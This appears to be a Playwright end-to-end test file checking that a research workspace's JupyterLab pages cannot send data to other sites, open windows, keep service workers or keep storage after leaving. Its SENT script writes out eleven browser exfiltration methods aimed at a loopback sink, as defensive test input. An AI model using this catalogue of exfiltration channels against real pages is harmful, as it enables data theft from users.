"""What the page of a notebook cannot do in a real browser: not its script, its ways are closed.

A workspace writes the scripts of its own pages, so all of them are hostile. What no policy can
close (the address of a top navigation, WebRTC) is named in the administrator's page, not tested as
closed here.
"""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Error, Page, expect

from tests.e2e.browsing import Browsers
from tests.e2e.conftest import House

PROJECT = "mgus-outcomes"
OTHER = "light-chains"
SETTLED = 1_500
"""Units: milliseconds in which everything that a page sent has arrived at a listener next door."""


class Sink:
    """A site somewhere else: every request that arrives is remembered, none is refused."""

    def __init__(self, port: int) -> None:
        self.url = f"http://127.0.0.1:{port}"
        self.heard: set[str] = set()


@pytest.fixture
def sink() -> Iterator[Sink]:
    """Another site on loopback, which answers everything."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer()

        def do_POST(self) -> None:
            self._answer()

        def _answer(self) -> None:
            there.heard.add(self.path.partition("?")[0].lstrip("/"))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>elsewhere</title>")

        def log_message(self, *_: Any) -> None:
            """Say nothing on the terminal."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    there = Sink(server.server_port)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield there
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def notebook(house: House, browsers: Browsers) -> Page:
    """The page of JupyterLab itself, as the notebook server sent it."""
    page = browsers.of("rosa")
    page.goto(f"{house.settings.project_url(PROJECT)}/")
    try:
        page.locator("#jupyter-config-data").wait_for(state="attached")
    except Error:
        pytest.fail(f"no notebook at {page.url}, but:\n{page.locator('body').inner_text()}")
    return page


SENT = """async site => {
  const quietly = promise => promise.then(() => true, () => false);
  const done = [quietly(fetch(`${site}/fetch?row`, {mode: 'no-cors'}))];
  navigator.sendBeacon(`${site}/beacon`, 'row');
  new Image().src = `${site}/image?row`;
  new WebSocket(`${site.replace('http', 'ws')}/socket`);
  const add = (tag, values) => document.body.append(
    Object.assign(document.createElement(tag), values));
  add('iframe', {src: `${site}/frame?row`});
  add('object', {data: `${site}/object?row`});
  add('script', {src: `${site}/script?row`});
  add('link', {rel: 'stylesheet', href: `${site}/style?row`});
  add('video', {src: `${site}/video?row`});
  add('iframe', {name: 'there'});
  const form = Object.assign(document.createElement('form'),
    {action: `${site}/form`, method: 'post', target: 'there'});
  document.body.append(form);
  form.submit();
  const source = `fetch('${site}/worker?row', {mode: 'no-cors'}).catch(() => 0)`;
  try { new Worker(URL.createObjectURL(new Blob([source]))); } catch {}
  await Promise.all(done);
}"""
WAYS = {
    "fetch", "beacon", "image", "socket", "frame", "object", "script", "style", "video", "form",
    "worker",
}  # fmt: skip


def test_nothing_of_a_notebooks_page_reaches_another_site(
    notebook: Page, browsers: Browsers, sink: Sink
) -> None:
    """Eleven ways to send a row elsewhere; from a page without the policy each arrives."""
    notebook.evaluate(SENT, sink.url)
    notebook.wait_for_timeout(SETTLED)
    assert sink.heard == set()
    free = browsers.stranger()
    free.goto(f"{sink.url}/page")
    free.evaluate(SENT, sink.url.replace("127.0.0.1", "localhost"))
    free.wait_for_timeout(SETTLED)
    assert sink.heard >= WAYS, "the control: all of them work where nothing forbids them"


FETCH = """async url => {
  const refused = new Promise(resolve => document.addEventListener(
    'securitypolicyviolation', event => resolve(event.effectiveDirective), {once: true}));
  try {
    const answer = await fetch(url, {mode: 'no-cors', credentials: 'include'});
    return `arrived ${answer.type} ${answer.status}`;
  } catch (error) {
    return await refused;
  }
}"""


def test_the_scripts_of_a_project_reach_no_other_project(house: House, notebook: Page) -> None:
    """Neither another project's host, nor the control plane, nor anything on the internet."""
    settings = house.settings
    own = f"{settings.project_url(PROJECT)}/user/rosa/api/status"
    assert notebook.evaluate(FETCH, own) == "arrived basic 200", "the control: her own server"
    for url in (
        f"{settings.project_url(OTHER)}/.tre/health",
        f"{settings.control_url}/api/me",
        f"{settings.control_url}/health",
        "https://elsewhere.example/",
        "http://127.0.0.1:9/",
    ):
        assert notebook.evaluate(FETCH, url) == "connect-src", url


def test_a_notebooks_page_opens_no_window(
    house: House, notebook: Page, browsers: Browsers, sink: Sink
) -> None:
    """No second window, whether a script or a press on a link asks for it."""
    opened = "url => window.open(url) !== null"
    assert not notebook.evaluate(opened, f"{sink.url}/window")
    notebook.evaluate(
        """url => document.body.prepend(Object.assign(document.createElement('a'),
             {href: url, target: '_blank', rel: 'opener', id: 'away', textContent: 'away',
              style: 'position: fixed; z-index: 99999; top: 0; left: 0'}))""",
        f"{sink.url}/link",
    )
    notebook.locator("#away").click(force=True)
    notebook.wait_for_timeout(SETTLED)
    assert len(notebook.context.pages) == 1
    assert sink.heard == set()
    assert notebook.url.startswith(house.settings.project_url(PROJECT))
    free = browsers.stranger()
    free.goto(f"{sink.url}/page")
    assert free.evaluate(opened, f"{sink.url}/window"), "the control: nothing forbids it there"


def test_a_notebooks_page_leaves_no_worker_behind(notebook: Page) -> None:
    """A service worker would outlive the session; the gateway hands out no script for one."""
    said = notebook.evaluate(
        """async () => {
          const script = document.querySelector('script[src]').src;
          const plain = (await fetch(script)).status;
          try {
            await navigator.serviceWorker.register(script);
            return [plain, 'registered'];
          } catch (error) {
            return [plain, String(error)];
          }
        }"""
    )
    assert said[0] == 200, "the control: the same script is there for the page"
    assert "403" in said[1]
    assert (
        notebook.evaluate("async () => (await navigator.serviceWorker.getRegistrations()).length")
        == 0
    )


def test_leaving_a_project_clears_what_its_pages_kept(house: House, notebook: Page) -> None:
    """Cookies, storage and the session of this host end; the control plane's session does not."""
    host = house.settings.project_url(PROJECT)
    notebook.evaluate("() => { localStorage.kept = 'ROW'; document.cookie = 'kept=ROW; path=/' }")
    notebook.goto(f"{host}/.tre/health")
    assert notebook.evaluate("() => [localStorage.kept, document.cookie]") == ["ROW", "kept=ROW"]
    answer = notebook.goto(f"{host}/.tre/leave")
    assert answer is not None
    assert answer.header_value("clear-site-data") == '"cache", "cookies", "storage"'
    expect(notebook.get_by_role("heading", name="You have left this project")).to_be_visible()
    assert notebook.context.cookies(host) == []
    notebook.goto(f"{host}/.tre/health")
    assert notebook.evaluate("() => [localStorage.kept ?? null, document.cookie]") == [None, ""]
    notebook.goto(f"{house.settings.control_url}/")
    expect(notebook.get_by_role("heading", name="Good day, Rosa Researcher")).to_be_visible()
